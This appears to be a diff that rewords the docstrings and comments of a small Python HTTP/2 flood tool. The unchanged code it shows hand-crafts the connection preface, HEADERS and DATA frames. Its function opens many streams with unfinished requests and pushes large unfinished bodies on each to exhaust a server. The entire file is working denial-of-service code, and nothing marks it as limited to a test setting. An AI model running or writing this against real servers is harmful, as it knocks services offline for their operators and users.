@@ -1,4 +1,4 @@
-"""HTTP/2 as a flood speaks it: frames by hand, and never the end of a request."""
+"""An HTTP/2 flood: frames made by hand, of requests that never end."""
 
 import socket
 import struct
@@ -6,7 +6,7 @@ import struct
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _DATA, _HEADERS, _SETTINGS = 0, 1, 4
 _END_HEADERS = 4
-# Of HPACK's static table: GET, POST, http.
+# From HPACK's static table: GET, POST, http.
 METHODS = {"GET": b"\x82", "POST": b"\x83"}
 _SCHEME = b"\x86"
 
@@ -16,7 +16,7 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 
 def flood(address: tuple[str, int], method: str, path: bytes, streams: int, size: int) -> socket.socket:
-    """A connection on which so many requests have begun, with so many bytes of a body that does not end."""
+    """A connection with this number of unfinished requests, each with `size` bytes of an unfinished body."""
     connection = socket.create_connection(address, 5)
     connection.settimeout(2)
     head = METHODS[method] + _SCHEME + b"\x04" + bytes([len(path)]) + path + b"\x01\x01x"
@@ -27,6 +27,6 @@ def flood(address: tuple[str, int], method: str, path: bytes, streams: int, size
             connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, head))
             for _ in range(size // 16_000):
                 connection.sendall(_frame(_DATA, 0, stream, b"x" * 16_000))
-    except OSError:  # who is refused may be cut off
+    except OSError:  # the server may cut off a client that it refuses
         pass
     return connection
